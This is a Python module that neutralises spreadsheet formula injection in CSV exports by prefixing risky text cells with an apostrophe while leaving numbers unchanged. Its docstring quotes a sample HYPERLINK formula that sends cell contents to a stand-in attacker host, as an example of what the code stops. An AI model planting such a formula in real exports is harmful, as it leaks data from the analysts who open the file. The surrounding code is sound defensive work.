"""CSV cells a spreadsheet will not run: the one place exports make their text cells.

Excel, LibreOffice and Google Sheets treat a cell that starts with "=", "+", "-" or "@" as
a formula (and a leading tab or carriage return can hide one), so an attempted username or
a description such as ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would run when an
analyst opens the export. Such text cells get a leading apostrophe, which the spreadsheet
shows as text. Numbers are written as numbers: a longitude of -1.2 stays a number.
"""

import csv
import json
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A number written as text ("-1.2", "+44") is no formula: a spreadsheet reads it as a number.
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> str:
    """One value as CSV cell text: numbers as written, lists and mappings as JSON, text
    that a spreadsheet would take for a formula prefixed with "'"."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return repr(value) if isinstance(value, float) else str(value)
    text = json.dumps(value, sort_keys=True) if isinstance(value, dict | list) else str(value)
    if text.startswith(FORMULA_START) and NUMBER.fullmatch(text) is None:
        return "'" + text
    return text


def write_rows(out: TextIO, header: Iterable[str], rows: Iterable[Iterable[Any]]) -> None:
    """A header and rows as CSV (RFC 4180), every cell through ``safe_cell``.

    Lines end in CRLF as the RFC says: with "\n" alone, Python's csv leaves a cell holding a
    bare carriage return unquoted, and a spreadsheet starts a new row there, on text that
    could begin a formula."""
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    writer.writerows([safe_cell(value) for value in row] for row in rows)
